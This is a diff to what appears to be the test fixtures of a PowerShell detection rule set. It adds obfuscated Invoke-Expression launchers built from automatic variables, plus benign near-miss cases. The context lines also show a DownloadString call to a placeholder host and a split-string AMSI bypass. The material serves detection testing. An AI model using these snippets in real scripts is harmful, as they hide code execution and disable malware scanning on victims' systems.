@@ -59,6 +59,13 @@ TRIGGERS = [
     ("PSObfuscatedCommandName", "T1027.010", 1, "& (('I','E','X') -join '') $payload"),
     ("PSObfuscatedCommandName", "T1027.010", 2, "$c = [char]73 + [char]69 + [char]88\n& $c $payload"),
     ("PSObfuscatedCommandName", "T1027.010", 1, "$wc.('Down' + 'loadString')('http://x.example/a.ps1')"),
+    ("PSObfuscatedCommandName", "T1027.010", 2, "$a = 'New-'; $b = 'Object'\n& \"$a$b\" Net.WebClient"),
+    # Invoke-Obfuscation's launchers: letters taken from automatic values that never change.
+    ("PSObfuscatedCommandName", "T1027.010", 1, "&($ShellId[1]+$ShellId[13]+'x') $payload"),
+    ("PSObfuscatedCommandName", "T1027.010", 1, ".($env:ComSpec[4,15,25]-Join'') $payload"),
+    ("PSObfuscatedCommandName", "T1027.010", 1, "&( $VerbosePreference.ToString()[1,3]+'x'-Join'') $payload"),
+    ("PSObfuscatedCommandName", "T1027.010", 1, "& ($PSHome[4]+$PSHome[30]+'x') $payload"),
+    ("PSAvoidUsingInvokeExpression", "", 1, "&($ShellId[1]+$ShellId[13]+'x') $payload"),
     # Split-string AMSI bypasses — T1562.001
     ("PSAmsiBypass", "T1562.001", 1,
      "[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInitFailed',"
@@ -122,6 +129,10 @@ NEAR_MISSES = [
     ("PSObfuscatedCommandName", "& (Join-Path $PSScriptRoot 'build.ps1')"),
     ("PSObfuscatedCommandName", "& ('Get-Date')"),
     ("PSObfuscatedCommandName", "& \"$PSScriptRoot\\setup.ps1\""),
+    ("PSObfuscatedCommandName", "& \"$env:ComSpec\" /c dir"),
+    ("PSObfuscatedCommandName", "$exe = 'C:\\tools\\x.exe'\n& \"$exe\" /quiet"),
+    ("PSObfuscatedCommandName", "$dir = 'C:\\tools'\n& \"$dir\\setup.exe\" /quiet"),
+    ("PSObfuscatedCommandName", "$ShellId = Read-Host\n& ($ShellId[1] + 'x')"),  # the script sets it
     ("PSAmsiBypass", "$a = 'Sys' + 'tem.IO'\n[Ref].Assembly.GetType(\"$a.Path\")"),
     ("PSEncodedCommand", "Start-Process powershell -ArgumentList '-NoProfile -File C:\\scripts\\job.ps1'"),
     ("PSEncodedCommand", "Start-Process notepad.exe -ArgumentList '-enc', 'x'"),
